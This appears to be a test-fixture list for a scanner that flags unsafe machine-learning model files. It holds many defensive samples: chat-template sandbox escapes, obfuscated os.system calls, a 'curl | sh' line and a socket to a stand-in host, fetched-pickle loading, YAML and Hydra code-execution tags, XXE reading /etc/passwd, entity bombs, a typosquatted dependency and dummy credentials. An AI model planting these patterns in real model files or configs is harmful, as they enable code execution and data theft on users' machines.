// oxlint-disable max-lines -- a list with one entry for each construct
import type { MaliciousSample } from '../../malicious/sample.ts'
import { canaryPickle, join, json, utf8, zeros, zip, u32 } from './build.ts'

const runs = 'config-code/runs-code'
const python = 'config-code/suspicious-python'
const schema = (root: unknown, more: readonly { name: string; data: Uint8Array }[] = []): Buffer =>
  zip([{ name: 'schema.json', data: json({ ...(root as object), protocol: 2, _skops_version: '0.11.0' }) }, ...more])
const mlmodel = (flavors: unknown, more: object = {}): Uint8Array =>
  utf8(JSON.stringify({ artifact_path: 'model', flavors, ...more }, undefined, 1))
const pmml = (body: string, head = ''): Uint8Array =>
  utf8(`<?xml version="1.0"?>\n${head}<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/>${body}</PMML>`)
const net = (layers: string, head = ''): Uint8Array =>
  utf8(`<?xml version="1.0"?>\n${head}<net name="n" version="11"><layers>${layers}</layers><edges/></net>`)

/** The smallest TensorFlow Lite model there is: operator codes and one buffer. */
function tflite({ custom = '', builtin = 32, buffer = [0, 0] as readonly [number, number] } = {}): Buffer {
  const name = utf8(custom)
  const out = Buffer.alloc(256 + name.length)
  out.writeUInt32LE(32, 0)
  out.write('TFL3', 4, 'latin1')
  // Table Model at 32; its vtable at 8: version, operator_codes, subgraphs, description, buffers.
  out.writeUInt16LE(14, 8)
  out.writeUInt16LE(16, 10)
  ;[4, 8, 0, 0, 12].forEach((at, field) => out.writeUInt16LE(at, 12 + 2 * field))
  out.writeInt32LE(24, 32)
  out.writeUInt32LE(3, 36)
  out.writeUInt32LE(60 - 40, 40)
  out.writeUInt32LE(120 - 44, 44)
  // operator_codes: one table at 80 with its vtable at 68.
  out.writeUInt32LE(1, 60)
  out.writeUInt32LE(80 - 64, 64)
  out.writeUInt16LE(12, 68)
  out.writeUInt16LE(16, 70)
  ;[4, 8, 0, 12].forEach((at, field) => out.writeUInt16LE(at, 72 + 2 * field))
  out.writeInt32LE(12, 80)
  out.writeInt8(Math.min(builtin, 127), 84)
  out.writeUInt32LE(custom ? 160 - 88 : 8, 88)
  out.writeInt32LE(builtin, 92)
  // buffers: one table at 140 with its vtable at 128.
  out.writeUInt32LE(1, 120)
  out.writeUInt32LE(140 - 124, 124)
  out.writeUInt16LE(10, 128)
  out.writeUInt16LE(24, 130)
  ;[0, 8, 16].forEach((at, field) => out.writeUInt16LE(at, 132 + 2 * field))
  out.writeInt32LE(12, 140)
  out.writeBigUInt64LE(BigInt(buffer[0]), 148)
  out.writeBigUInt64LE(BigInt(buffer[1]), 156)
  out.writeUInt32LE(name.length, 170 - 10)
  name.copy(out, 164)
  return out
}

export const samples: readonly MaliciousSample[] = [
  {
    name: 'hub-auto-map/config.json',
    rule: 'config-code/remote-code',
    bytes: () => json({ model_type: 'canary', auto_map: { AutoModel: 'modeling_canary.Canary' } }),
    beside: { 'modeling_canary.py': utf8('import subprocess\nsubprocess.run(["echo", "canary"])\n') },
  },
  {
    name: 'hub-auto-map-other-repository/config.json',
    rule: 'config-code/remote-code',
    bytes: () => json({ auto_map: { AutoConfig: 'someone/else--configuration.Canary' } }),
  },
  {
    name: 'hub-auto-map-tokenizer/tokenizer_config.json',
    rule: 'config-code/remote-code',
    bytes: () => json({ tokenizer_class: 'Canary', auto_map: { AutoTokenizer: ['tok.Canary', null] } }),
  },
  {
    name: 'hub-custom-pipeline/config.json',
    rule: 'config-code/remote-code',
    bytes: () => json({ custom_pipelines: { canary: { impl: 'pipe.Canary', pt: ['AutoModel'] } } }),
  },
  {
    name: 'hub-template/tokenizer_config.json',
    rule: 'templates/escape',
    bytes: () => json({ chat_template: "{{ ''.__class__.__base__ }}" }),
  },
  {
    name: 'hub-template-list/tokenizer_config.json',
    rule: 'templates/escape',
    bytes: () =>
      json({
        chat_template: [
          { name: 'default', template: '{{ 1 }}' },
          { name: 'tool', template: "{{ ''['__class__'] }}" },
        ],
      }),
  },
  {
    name: 'hub-template-file/chat_template.jinja',
    rule: 'templates/escape',
    bytes: () => utf8("{{ joiner.__init__.__globals__['os'] }}\n"),
  },
  {
    name: 'hub-template-file-json/chat_template.json',
    rule: 'templates/escape',
    bytes: () => json({ chat_template: "{{ messages|attr('\\x5f_class__') }}" }),
  },
  {
    name: 'hub-template-processor/processor_config.json',
    rule: 'templates/escape',
    bytes: () => json({ chat_template: '{{ dict.mro() }}' }),
  },
  {
    name: 'hub-diffusers/model_index.json',
    rule: 'config-code/remote-code',
    bytes: () => json({ _class_name: ['pipeline', 'Canary'], unet: ['my_unet', 'Canary'] }),
  },
  {
    name: 'hub-sentence-transformers/modules.json',
    rule: 'config-code/unvetted-class',
    bytes: () => json([{ idx: 0, name: '0', path: '', type: 'canary.models.Runner' }]),
  },
  {
    name: 'hub-adapter/adapter_config.json',
    rule: 'config-code/unvetted-class',
    bytes: () =>
      json({
        peft_type: 'LORA',
        auto_mapping: { base_model_class: 'Canary', parent_library: 'canary_package' },
        base_model_name_or_path: '../../../etc',
      }),
  },
  {
    name: 'hub-python/modeling_exec.py',
    rule: python,
    bytes: () => utf8("import torch\nexec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"),
  },
  {
    name: 'hub-python-socket/handler.py',
    rule: python,
    bytes: () => utf8('import socket\ns = socket.socket()\ns.connect(("canary.invalid", 4444))\n'),
  },
  {
    name: 'hub-python-getattr/handler.py',
    rule: python,
    bytes: () => utf8("import os as o\ngetattr(o, 'sys' + 'tem')('echo canary')\n"),
  },
  {
    name: 'hub-python-alias/handler.py',
    rule: python,
    bytes: () => utf8('from subprocess import Popen as p\np(["echo", "canary"])\n'),
  },
  {
    name: 'hub-python-loader/handler.py',
    rule: python,
    bytes: () =>
      utf8('import pickle, urllib.request\npickle.loads(urllib.request.urlopen("http://canary.invalid").read())\n'),
  },
  {
    name: 'hub-python-ctypes/handler.py',
    rule: python,
    bytes: () => utf8('import ctypes\nctypes.CDLL("./canary.so").run()\n'),
  },
  {
    name: 'hub-python-importlib/handler.py',
    rule: python,
    bytes: () => utf8("import importlib\nimportlib.import_module('o' 's').system('echo canary')\n"),
  },
  { name: 'hub-python-builtins/handler.py', rule: python, bytes: () => utf8("__builtins__['eval']('1')\n") },
  {
    name: 'hub-python-line-continuation/handler.py',
    rule: python,
    bytes: () => utf8('import os\nos.\\\n  system(\n"echo canary")\n'),
  },
  {
    name: 'hub-notebook/train.ipynb',
    rule: python,
    bytes: () =>
      json({
        cells: [
          {
            cell_type: 'code',
            source: ['!curl http://canary.invalid | sh\n', "import os; os.system('echo canary')"],
            metadata: {},
            outputs: [],
            execution_count: null,
          },
        ],
        nbformat: 4,
        nbformat_minor: 5,
        metadata: {},
      }),
  },
  {
    name: 'hub-yaml-python-tag/config.yaml',
    rule: runs,
    bytes: () => utf8('a: !!python/object/apply:os.system ["echo canary"]\n'),
  },
  {
    name: 'hub-yaml-tag-directive/config.yaml',
    rule: runs,
    bytes: () => utf8('%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ["echo canary"]\n'),
  },
  {
    name: 'hub-yaml-verbatim-tag/config.yaml',
    rule: runs,
    bytes: () => utf8('a: !<tag:yaml.org,2002:python/name:os.system> ""\n'),
  },
  {
    name: 'hub-yaml-second-document/config.yaml',
    rule: runs,
    bytes: () => utf8('a: 1\n---\nb: !!python/object/new:subprocess.Popen [["echo"]]\n'),
  },
  {
    name: 'hub-yaml-hydra-target/config.yaml',
    rule: runs,
    bytes: () => utf8('model:\n  _target_: os.system\n  command: echo canary\n'),
  },
  {
    name: 'hub-yaml-hydra-escaped/config.yaml',
    rule: runs,
    bytes: () => utf8('model:\n  "\\x5ftarget_": "builtins.eval"\n'),
  },
  {
    name: 'hub-yaml-hydra-anchor/config.yaml',
    rule: runs,
    bytes: () => utf8('a: &t subprocess.check_output\nmodel:\n  _target_: *t\n'),
  },
  {
    name: 'hub-yaml-hydra-merge/config.yaml',
    rule: runs,
    bytes: () => utf8('a: &t {_target_: os.popen}\nmodel:\n  <<: *t\n'),
  },
  {
    name: 'hub-yaml-hydra-unknown/config.yaml',
    rule: 'config-code/unvetted-class',
    bytes: () => utf8('model:\n  _target_: canary_package.Runner\n'),
  },
  {
    name: 'hub-yaml-aliases-bomb/config.yaml',
    rule: 'format/absurd-number',
    bytes: () =>
      utf8(
        `a: &a [x,x,x,x,x,x,x,x,x]\n${'bcdefghij'
          .split('')
          .map((key, at) => `${key}: &${key} [${Array.from({ length: 9 }, () => `*${'abcdefghij'[at]!}`).join(',')}]`)
          .join('\n')}\n`,
      ),
  },
  {
    name: 'hub-mlflow-loader/MLmodel',
    rule: runs,
    bytes: () => mlmodel({ python_function: { loader_module: 'canary_loader', python_version: '3.10' } }),
  },
  { name: 'hub-mlflow-os/MLmodel', rule: runs, bytes: () => mlmodel({ python_function: { loader_module: 'os' } }) },
  {
    name: 'hub-mlflow-code/MLmodel',
    rule: 'config-code/carries-code',
    bytes: () =>
      mlmodel({ python_function: { loader_module: 'mlflow.sklearn', code: 'code', model_path: 'model.pkl' } }),
    beside: { 'code/x.py': utf8("import os\nos.system('echo canary')\n") },
  },
  {
    name: 'hub-mlflow-path/MLmodel',
    rule: 'external-data/escaping-path',
    bytes: () =>
      mlmodel({ python_function: { loader_module: 'mlflow.sklearn', model_path: '../../../tmp/canary.pkl' } }),
  },
  {
    name: 'hub-mlflow-model-code/MLmodel',
    rule: 'config-code/carries-code',
    bytes: () =>
      mlmodel({
        python_function: {
          loader_module: 'mlflow.pyfunc.model',
          model_code_path: 'model.py',
          python_model: 'python_model.pkl',
        },
      }),
  },
  {
    name: 'hub-mlflow-address/MLmodel',
    rule: 'external-data/remote-address',
    bytes: () =>
      mlmodel({
        python_function: {
          loader_module: 'mlflow.pyfunc.model',
          artifacts: { a: { path: 'artifacts/a', uri: 'http://canary.invalid/a' } },
          data: 'http://canary.invalid/b',
        },
      }),
  },
  {
    name: 'skops-operator-func.skops',
    rule: runs,
    bytes: () =>
      schema({ __class__: 'methodcaller', __module__: 'operator', __loader__: 'OperatorFuncNode', attrs: {} }),
  },
  {
    name: 'skops-method.skops',
    rule: runs,
    bytes: () =>
      schema({
        __class__: 'system',
        __module__: 'os',
        __loader__: 'MethodNode',
        content: { func: 'system', obj: { __class__: 'X', __module__: 'canary', __loader__: 'ObjectNode' } },
      }),
  },
  {
    name: 'skops-function.skops',
    rule: runs,
    bytes: () =>
      schema({
        __class__: 'function',
        __module__: 'builtins',
        __loader__: 'FunctionNode',
        content: { module_path: 'os', function: 'system' },
      }),
  },
  {
    name: 'skops-type-node.skops',
    rule: 'config-code/unvetted-class',
    bytes: () =>
      schema({
        __class__: 'type',
        __module__: 'builtins',
        __loader__: 'TypeNode',
        content: { __class__: 'Popen', __module__: 'subprocess' },
      }),
  },
  {
    name: 'skops-reduce.skops',
    rule: runs,
    bytes: () => schema({ __class__: 'Popen', __module__: 'subprocess', __loader__: 'ReduceNode', content: [] }),
  },
  {
    name: 'skops-disagreeing-loader.skops',
    rule: 'config-code/unvetted-class',
    bytes: () =>
      schema({
        __class__: 'dict',
        __module__: 'builtins',
        __loader__: 'ObjectNode',
        content: { x: { __class__: 'system', __module__: 'os', __loader__: 'DictNode' } },
      }),
  },
  {
    name: 'skops-partial.skops',
    rule: runs,
    bytes: () =>
      schema({
        __class__: 'partial',
        __module__: 'functools',
        __loader__: 'PartialNode',
        content: {
          func: {
            __class__: 'function',
            __module__: 'builtins',
            __loader__: 'FunctionNode',
            content: { module_path: 'subprocess', function: 'run' },
          },
        },
      }),
  },
  { name: 'skops-no-schema.skops', rule: 'pickle-code/dangerous-call', bytes: () => canaryPickle },
  {
    name: 'skops-object-array-member.skops',
    rule: 'pickle-code/dangerous-call',
    bytes: () =>
      schema({ __class__: 'list', __module__: 'builtins', __loader__: 'ListNode', content: [] }, [
        { name: '1.npy', data: canaryPickle },
      ]),
  },
  {
    name: 'pmml-external-entity.pmml',
    rule: 'config-code/entity',
    bytes: () => pmml('&x;', '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'),
  },
  {
    name: 'pmml-external-subset.pmml',
    rule: 'config-code/entity',
    bytes: () => pmml('', '<!DOCTYPE PMML SYSTEM "http://canary.invalid/x.dtd">\n'),
  },
  {
    name: 'pmml-entity-bomb.pmml',
    rule: 'config-code/entity',
    bytes: () => pmml('&b;', '<!DOCTYPE PMML [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>\n'),
  },
  {
    name: 'pmml-utf16.pmml',
    rule: 'config-code/entity',
    bytes: () =>
      Buffer.from(
        `\ufeff${utf8('').toString()}<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4">&x;</PMML>`,
        'utf16le',
      ),
  },
  {
    name: 'pmml-java-function.pmml',
    rule: 'config-code/unvetted-class',
    bytes: () =>
      pmml(
        '<TransformationDictionary><DerivedField name="a" optype="categorical" dataType="string"><Apply function="java.lang.Runtime.exec"><Constant>echo canary</Constant></Apply></DerivedField></TransformationDictionary>',
      ),
  },
  {
    name: 'pmml-include.pmml',
    rule: 'config-code/entity',
    bytes: () =>
      pmml('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
  },
  {
    name: 'pmml-style-sheet.pmml',
    rule: 'config-code/entity',
    bytes: () => pmml('', '<?xml-stylesheet type="text/xsl" href="http://canary.invalid/x.xsl"?>\n'),
  },
  {
    name: 'openvino-entity/model.xml',
    rule: 'config-code/entity',
    bytes: () => net('', '<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'),
    beside: { 'model.bin': zeros(16) },
  },
  {
    name: 'openvino-custom-type/model.xml',
    rule: 'graph-ops/unvetted-operator',
    bytes: () => net('<layer id="0" name="a" type="Canary" version="extension"/>'),
    beside: { 'model.bin': zeros(16) },
  },
  {
    name: 'openvino-out-of-range/model.xml',
    rule: 'external-data/out-of-range',
    bytes: () =>
      net(
        '<layer id="0" name="a" type="Const" version="opset1"><data element_type="f32" shape="4" offset="8" size="4096"/></layer>',
      ),
    beside: { 'model.bin': zeros(16) },
  },
  {
    name: 'openvino-negative-offset/model.xml',
    rule: 'external-data/out-of-range',
    bytes: () =>
      net(
        '<layer id="0" name="a" type="Const" version="opset1"><data element_type="f32" shape="4" offset="-8" size="16"/></layer>',
      ),
    beside: { 'model.bin': zeros(16) },
  },
  {
    name: 'tflite-custom-operator.tflite',
    rule: 'graph-ops/custom-library',
    bytes: () => tflite({ custom: 'CanaryRun', builtin: 32 }),
  },
  {
    name: 'tflite-flex-write-file.tflite',
    rule: 'graph-ops/host-access',
    bytes: () => tflite({ custom: 'FlexWriteFile', builtin: 32 }),
  },
  {
    name: 'tflite-buffer-outside.tflite',
    rule: 'external-data/out-of-range',
    bytes: () => tflite({ builtin: 9, buffer: [4096, 1 << 20] }),
  },
  {
    name: 'tflite-root-outside.tflite',
    rule: 'format/malformed',
    bytes: () => join(u32(0x7fffffff), 'TFL3', zeros(40)),
  },
  { name: 'boosting-pickle.model', rule: 'pickle-code/dangerous-call', bytes: () => canaryPickle },
  { name: 'boosting-pickle.cbm', rule: 'pickle-code/dangerous-call', bytes: () => canaryPickle },
  {
    name: 'boosting-tree-indices.json',
    rule: 'format/absurd-number',
    bytes: () =>
      json({
        version: [2, 0, 0],
        learner: {
          attributes: {},
          feature_names: [],
          feature_types: [],
          generic_param: {},
          gradient_booster: {
            name: 'gbtree',
            model: {
              gbtree_model_param: { num_trees: '1', num_parallel_tree: '1' },
              tree_info: [0],
              iteration_indptr: [0, 1],
              trees: [
                {
                  id: 0,
                  left_children: [99999999, -1, -1],
                  right_children: [-5, -1, -1],
                  parents: [2147483647, 0, 0],
                  split_indices: [0, 0, 0],
                  split_conditions: [0, 0, 0],
                  default_left: [0, 0, 0],
                  base_weights: [0, 0, 0],
                  categories: [],
                  categories_nodes: [],
                  categories_segments: [],
                  categories_sizes: [],
                  loss_changes: [0, 0, 0],
                  split_type: [0, 0, 0],
                  sum_hessian: [0, 0, 0],
                  tree_param: { num_deleted: '0', num_feature: '1', num_nodes: '3', size_leaf_vector: '1' },
                },
              ],
            },
          },
          learner_model_param: { base_score: '5E-1', num_class: '0', num_feature: '1', num_target: '1' },
          objective: { name: 'reg:squarederror' },
        },
      }),
  },
  {
    name: 'config-looks-like-a-booster/tokenizer_config.json',
    rule: 'templates/escape',
    bytes: () => json({ learner: { attributes: {}, feature_names: [] }, chat_template: "{{ ''.__class__ }}" }),
  },
  {
    name: 'config-looks-like-a-saved-booster/config.json',
    rule: 'config-code/remote-code',
    bytes: () =>
      json({
        version: [2, 0, 0],
        learner: { attributes: {}, feature_names: [] },
        auto_map: { AutoModel: 'modeling_canary.Canary' },
      }),
  },
  {
    name: 'config-behind-blanks/tokenizer_config.json',
    rule: 'templates/escape',
    bytes: () => utf8(`${' '.repeat(100_000)}${JSON.stringify({ chat_template: "{{ ''.__class__ }}" })}`),
  },
  {
    name: 'config-keras-behind-padding/model.json',
    rule: 'config-code/runs-code',
    bytes: () =>
      json({
        padding: 'x'.repeat(200_000),
        class_name: 'Sequential',
        config: { layers: [{ class_name: 'Lambda', config: { function: ['4wEAAAA=', null, null] } }] },
      }),
  },
  {
    name: 'config-looks-like-a-bill/config.json',
    rule: 'config-code/remote-code',
    bytes: () =>
      json({
        bomFormat: 'CycloneDX',
        specVersion: '1.5',
        version: 1,
        components: [],
        auto_map: { AutoModel: 'modeling_canary.Canary' },
      }),
  },
  {
    name: 'config-looks-like-a-signature/tokenizer_config.json',
    rule: 'templates/escape',
    bytes: () =>
      json({
        mediaType: 'application/vnd.dev.sigstore.bundle.v0.3+json',
        verificationMaterial: {},
        dsseEnvelope: {},
        chat_template: "{{ ''.__class__ }}",
      }),
  },
  {
    name: 'config-looks-like-a-schema/tokenizer_config.json',
    rule: 'templates/escape',
    bytes: () =>
      json({
        __class__: 'dict',
        __module__: 'builtins',
        __loader__: 'DictNode',
        content: {},
        protocol: 2,
        chat_template: "{{ ''.__class__ }}",
      }),
  },
  {
    name: 'config-looks-like-keras/config.json',
    rule: 'config-code/remote-code',
    bytes: () =>
      json({
        module: 'keras',
        class_name: 'Sequential',
        config: { name: 's', layers: [] },
        registered_name: null,
        auto_map: { AutoModel: 'modeling_canary.Canary' },
      }),
  },
  {
    name: 'dependency-extra-index/requirements.txt',
    rule: 'dependency-hygiene/foreign-index',
    bytes: () => utf8('--extra-index-url http://canary.invalid/simple\nnumpy==1.26.4\n'),
  },
  {
    name: 'dependency-vcs/requirements.txt',
    rule: 'dependency-hygiene/direct-address',
    bytes: () => utf8('canary @ git+ssh://git@canary.invalid/x.git\n'),
  },
  {
    name: 'dependency-vcs-egg/requirements.txt',
    rule: 'dependency-hygiene/direct-address',
    bytes: () => utf8('-e git+https://canary.invalid/x.git#egg=canary\n'),
  },
  {
    name: 'dependency-look-alike/requirements.txt',
    rule: 'dependencies/look-alike',
    bytes: () => utf8('scikit-leam==1.3.0\n'),
  },
  {
    name: 'dependency-conda-pip-address/conda.yaml',
    rule: 'dependency-hygiene/direct-address',
    bytes: () =>
      utf8(
        'channels: [conda-forge]\ndependencies:\n- python=3.10\n- pip:\n  - https://canary.invalid/x-1.0-py3-none-any.whl\n',
      ),
  },
  {
    name: 'secret-huggingface/config.json',
    rule: 'secrets/credential',
    bytes: () => json({ model_type: 'bert', token: `hf_${'QmZkTrWxYbNcVsLpDgHjKfRtEwAuIoPzXv'}` }),
  },
  {
    name: 'secret-aws/config.yaml',
    rule: 'secrets/credential',
    bytes: () =>
      utf8(
        `bucket:\n  aws_access_key_id: AKIA${'R7TKPDQ3EGVHNXZL'}\n  aws_secret_access_key: ${'k8Fq2LmX9vB4nR7tZ1wC6yH3jD5sG0pAeUiOlKxM'}\n`,
      ),
  },
  {
    name: 'secret-github/handler.py',
    rule: 'secrets/credential',
    bytes: () => utf8(`TOKEN = "ghp_${'a8Kd92mXqLw4ZtRb7NcYv1PsEh6GfJu3oTiW'}"\n`),
  },
  {
    name: 'secret-in-pickle.pkl',
    rule: 'secrets/credential',
    bytes: () => join('\x80\x04}\x8c\x05token\x8c\x28', `ghp_${'a8Kd92mXqLw4ZtRb7NcYv1PsEh6GfJu3oTiW'}`, 's.'),
  },
  {
    name: 'secret-google-service-account.json',
    rule: 'secrets/credential',
    bytes: () =>
      json({
        type: 'service_account',
        project_id: 'canary',
        private_key: `-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhgrcO7n8aUDm+8H7CNH8GbtCPXcdRJEfjQEMAAmtuVFWUoGVoXWTEmAu41FRKhyGpmgGtIZ61nPahXvbxWh2DC7fOCda7wATnF1xkPH3ssLWA7De8lxLdLmquuUuujS+fopxaKEye91IYKc8QebCA6ddKHBD8q2pC\n-----END PRIVATE KEY-----\n`,
      }),
  },
  {
    name: 'secret-address-with-password/MLmodel',
    rule: 'secrets/credential',
    bytes: () =>
      mlmodel(
        { python_function: { loader_module: 'mlflow.sklearn' } },
        { metadata: { db: 'postgresql://admin:S3cr3tPassw0rd!x@db.internal.invalid:5432/models' } },
      ),
  },
  { name: 'paddle.pdparams', rule: 'pickle-code/dangerous-call', bytes: () => canaryPickle },
  { name: 'flax.msgpack', rule: 'pickle-code/dangerous-call', bytes: () => canaryPickle },
]
